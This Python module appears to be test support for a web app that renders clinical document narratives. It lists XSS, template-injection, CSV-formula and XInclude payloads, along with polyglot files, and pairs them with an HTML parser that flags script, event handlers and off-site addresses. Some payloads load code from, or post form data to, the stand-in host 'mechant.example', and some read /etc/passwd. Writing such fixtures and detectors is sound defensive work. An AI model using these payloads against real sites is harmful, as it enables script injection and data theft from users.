"""What an attacker writes in a document, and a reader of HTML that finds whatever would run or lead elsewhere."""

import re
from html import escape
from html.parser import HTMLParser

# Words that become script when a page forgets to escape them: in text, in attributes of each quoting, in addresses.
TEXTS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//mechant.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "x onclick=alert(1) ",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='https://mechant.example/'><input name=mot></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<base href='https://mechant.example/'>",
    "<meta http-equiv=refresh content='0;url=https://mechant.example/'>",
    "<link rel=stylesheet href='https://mechant.example/x.css'>",
    "<style>@import 'https://mechant.example/x.css';</style>",
    "<div style='background:url(https://mechant.example/)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x contenteditable onblur=alert(1)>x",
    "<x id=x tabindex=1 onfocus=alert(1)></x>",
    "{{ 7|add:7 }}{% debug %}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}#{alert(1)}",
    "%(name)s %s {0}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script\u00a0>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# Elements that a narrative may hold by mistake or by malice; the narrative is XML, so these are well-formed.
_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
NARRATIVES = (
    f"<script {_XHTML}>alert(1)</script>",
    "<script>alert(1)</script>",
    f'<img {_XHTML} src="x" onerror="alert(1)"/>',
    f'<iframe {_XHTML} src="javascript:alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    '<content onclick="alert(1)">x</content>',
    '<content ID="x&quot; onmouseover=&quot;alert(1)">x</content>',
    "<content ID=\"x'onmouseover='alert(1)\">x</content>",
    '<content styleCode="x&quot; onmouseover=&quot;alert(1)">x</content>',
    '<content styleCode="Bold;background:url(https://mechant.example/)">x</content>',
    '<content style="background:url(javascript:alert(1))">x</content>',
    '<content language="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</content>',
    '<linkHtml href="javascript:alert(1)">x</linkHtml>',
    '<linkHtml href="JaVaScRiPt:alert(1)">x</linkHtml>',
    '<linkHtml href=" &#9;javascript:alert(1)">x</linkHtml>',
    '<linkHtml href="java&#10;script:alert(1)">x</linkHtml>',
    '<linkHtml href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</linkHtml>',
    '<linkHtml href="vbscript:msgbox(1)">x</linkHtml>',
    '<linkHtml href="//mechant.example/">x</linkHtml>',
    '<linkHtml href="https://mechant.example/">x</linkHtml>',
    '<linkHtml href="#&quot; onclick=&quot;alert(1)">x</linkHtml>',
    '<linkHtml href="#x" onclick="alert(1)">x</linkHtml>',
    '<linkHtml href="../../deconnexion/">x</linkHtml>',
    '<renderMultiMedia referencedObject="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    '<renderMultiMedia referencedObject="https://mechant.example/x.png"/>',
    '<renderMultiMedia referencedObject="X"><caption>&lt;img src=x onerror=alert(1)&gt;</caption></renderMultiMedia>',
    '<table onmouseover="alert(1)"><tbody><tr><td>x</td></tr></tbody></table>',
    '<table><tbody><tr><td onclick="alert(1)" rowspan="1&quot; onclick=&quot;alert(1)">x</td></tr></tbody></table>',
    '<table background="javascript:alert(1)"><tbody><tr><td background="javascript:alert(1)">x</td></tr></tbody></table>',
    '<table summary="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"><tbody><tr><td>x</td></tr></tbody></table>',
    "<table><caption>&lt;script&gt;alert(1)&lt;/script&gt;</caption><tbody><tr><td>x</td></tr></tbody></table>",
    '<list styleCode="&quot; onclick=&quot;alert(1)"><item><caption>&lt;b onclick=alert(1)&gt;</caption>x</item></list>',
    '<footnote ID="f&quot; onclick=&quot;alert(1)">x</footnote><footnoteRef IDREF="f&quot; onclick=&quot;alert(1)"/>',
    '<paragraph ID="javascript:alert(1)"><linkHtml href="#javascript:alert(1)">x</linkHtml></paragraph>',
    "<paragraph><![CDATA[<script>alert(1)</script>]]></paragraph>",
    "<paragraph>x<!-- --&gt;<script>alert(1)</script> --></paragraph>",
    "<paragraph><?xml-stylesheet href='javascript:alert(1)'?>x</paragraph>",
    f'<form {_XHTML} action="https://mechant.example/"><input name="x"/></form>',
    f'<base {_XHTML} href="https://mechant.example/"/>',
    f'<meta {_XHTML} http-equiv="refresh" content="0;url=javascript:alert(1)"/>',
    f'<object {_XHTML} data="javascript:alert(1)"/>',
    f'<link {_XHTML} rel="stylesheet" href="https://mechant.example/x.css"/>',
    f"<style {_XHTML}>@import 'https://mechant.example/';</style>",
    '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
    '<br onclick="alert(1)"/>',
    '<sub onclick="alert(1)">x</sub><sup style="x:expression(alert(1))">x</sup>',
    '<span class="hy-cda-media" data-index="0">x</span>',
    '&lt;span class="hy-cda-media" data-index="0"&gt;&lt;/span&gt;',
    '<content revised="insert&quot; onclick=&quot;alert(1)">x</content>',
    '<content xml:base="javascript:" xml:lang="&quot; onclick=&quot;alert(1)">x</content>',
    '<caption onclick="alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</caption>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mtext>x</mtext></math>',
    '<col width="&quot; onclick=&quot;alert(1)"/>',
    '<colgroup span="1" onclick="alert(1)"/>',
    '<thead onclick="alert(1)"/>',
    '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
)
FILES = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html after a BOM": b"\xef\xbb\xbf<script>alert(1)</script>",
    "xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "xml with a sheet": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>',
    "pdf and html": b"%PDF-1.4\n<script>alert(1)</script>\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "pdf that acts": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "gif and script": b"GIF89a/*\x00*/=1;alert(1)//",
    "png and html": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    "jpeg and html": b"\xff\xd8\xff\xe0<script>alert(1)</script>\xff\xd9",
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "script": b"alert(1)",
    "UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "rtf": b"{\\rtf1 {\\field{\\*\\fldinst HYPERLINK javascript:alert(1)}}}",
}

_ALLOWED = frozenset(
    "html head meta title link script body header footer main nav aside section article div p span a strong em b i u s "
    "small sub sup br hr ul ol li dl dt dd h1 h2 h3 h4 h5 h6 table caption thead tbody tfoot tr th td form label input "
    "button select option optgroup textarea fieldset legend svg path circle rect line polyline polygon g details "
    "summary time img iframe object ins del abbr figure figcaption output progress template mark kbd code dialog symbol "
    "use defs ellipse noscript".split()
)
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "cite", "xlink:href", "srcset", "background")
_OURS = re.compile(r"(?:/(?![/\\])|#|\?)|$")
_NEVER = re.compile(r"on.+|style|srcdoc|background|xlink:href|http-equiv|ping|manifest|is")


class Reader(HTMLParser):
    """Faults of a page: what runs, what leads out, what is not an element of ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag not in _ALLOWED:
            self.faults.append(f"<{tag}>")
        if len(values) != len(attrs):
            self.faults.append(f"<{tag}> has an attribute twice")
        if tag == "script":
            self._in_script = True
            if not (values.get("src") or "").startswith("/static/"):
                self.faults.append("an inline script")
        for name, value in attrs:
            if _NEVER.fullmatch(name):
                self.faults.append(f"<{tag} {name}>")
            if name in _ADDRESSES and not self._leads_to_us(tag, value or ""):
                self.faults.append(f"<{tag} {name}={value}>")

    def _leads_to_us(self, tag: str, value: str) -> bool:
        known = (
            tag == "a" and value.startswith(("https://www.", "mailto:", "tel:", "sms:114")) and "mechant" not in value
        )
        return known or bool(_OURS.match(value))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = self._in_script and tag != "script"

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.faults.append("words inside a script")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("a declaration")


def faults_of(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


def in_xml(text: str) -> str:
    """The same words in XML: characters that XML has not are left out."""
    return escape("".join(c for c in text if c.isprintable() or c in "\u2028\u2029\u202e\u00a0"), quote=True)
